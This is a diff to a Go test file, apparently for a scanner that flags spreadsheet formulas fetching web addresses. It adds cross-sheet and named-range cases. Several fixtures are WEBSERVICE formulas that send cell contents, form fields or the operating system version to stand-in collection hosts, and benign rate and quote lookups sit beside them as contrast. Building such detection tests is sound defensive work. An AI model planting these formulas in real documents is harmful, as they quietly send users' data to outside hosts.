@@ -82,6 +82,8 @@ func formulaFetchCases() map[string][]sample {
 		{"an OpenDocument spreadsheet", ods(odsExfil), "2/book.ods/content.xml"},
 		{"an OpenDocument named range and cell", ods(`<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE([.C1]&amp;&quot;?u=&quot;&amp;[.B1])"/><table:table-cell/><table:table-cell office:value-type="string"><text:p>https://collect.example.net/c</text:p></table:table-cell>`), "2/book.ods/content.xml"},
 		{"an .xls's decompiled formulas", listing("Sheet1!R1C1: =_xlfn.WEBSERVICE(\"http://203.0.113.7/x?\"&_xlfn.ENCODEURL(R1C2))\n"), "2/book.xls/web-formulas"},
+		{"an .xls's address on another sheet, sending a form cell", listing("Form!R1C1: =_xlfn.WEBSERVICE('Setup'!R1C1&R2C2)\nSetup!R1C1 = \"https://collect.example.net/c?n=\"\n"), "2/book.xls/web-formulas"},
+		{"an .xls's range on another sheet, one cell empty", listing("Form!R1C1: =_xlfn.WEBSERVICE(_xlfn.CONCAT('Setup'!R1C1:R1C3))\nSetup!R1C1 = \"https://collect.example.net/c?\"\nSetup!R1C2 = \"n=\"\n"), "2/book.xls/web-formulas"},
 		{"an .xls's address in another cell", listing("Sheet1!R1C1: =_xlfn.WEBSERVICE(R2C1&R1C2)\nSheet1!R2C1 = \"https://collect.example.net/c?u=\"\n"), "2/book.xls/web-formulas"},
 		{"a shared formula's copy sends an empty cell", fillDown(other, `_xlfn.WEBSERVICE("https://collect.example.net/c?n="&amp;B1)`, "ACME-1", "", "ACME-3"), sheet},
 		{"a shared formula's copy reads the machine", fillDown(other, `_xlfn.WEBSERVICE("https://collect.example.net/c?n="&amp;B1)`, "ACME-1", "=INFO(&quot;osversion&quot;)", "ACME-3"), sheet},
@@ -109,6 +111,8 @@ func formulaFetchCases() map[string][]sample {
 		{"quotes filled down, each row's symbol filled in", fillDown(other, `_xlfn.WEBSERVICE("https://quotes.example.org/q?s="&amp;B1)`, "MSFT", "AAPL", "GOOG"), ""},
 		{"a shared formula whose copies stay on the sheet's filled cells", rows(other, `<row r="1"><c r="A1" t="inlineStr"><is><t>https://quotes.example.org/q?s=</t></is></c><c r="B1" t="inlineStr"><is><t>MSFT</t></is></c><c r="C1" t="inlineStr"><is><t>AAPL</t></is></c></row>`+
 			`<row r="2"><c r="B2" t="str"><f t="shared" ref="B2:C2" si="0">_xlfn.WEBSERVICE($A$1&amp;B$1)</f><v>ok</v></c><c r="C2" t="str"><f t="shared" si="0"/><v>ok</v></c></row>`), ""},
+		{"an .xls's rates from another sheet's cells", listing("Prices!R1C1: =_xlfn.WEBSERVICE('Setup'!R1C1&'Setup'!R1C2)\nPrices!R1C2 = \"EUR\"\nSetup!R1C1 = \"https://api.rates.example/latest?base=\"\nSetup!R1C2 = \"USD\"\n"), ""},
+		{"an .xls's name for another sheet's cell", listing("' name ccy = 'Set''up'!R1C2\nPrices!R1C1: =_xlfn.WEBSERVICE(\"https://api.rates.example/latest?base=\"&ccy)\nSet'up!R1C2 = \"USD\"\n"), ""},
 		{"an .xls's rates from the sheet's own cells", listing("Sheet1!R1C1: =_xlfn.WEBSERVICE(R2C1&R2C2)\nSheet1!R2C1 = \"https://api.rates.example/latest?base=\"\nSheet1!R2C2 = \"EUR\"\n"), ""},
 	}, "formula-web-hidden": {
 		{"an address from a look-up", xlsx(other, `_xlfn.WEBSERVICE(VLOOKUP("k",Data!A1:B9,2,FALSE))`), sheet},
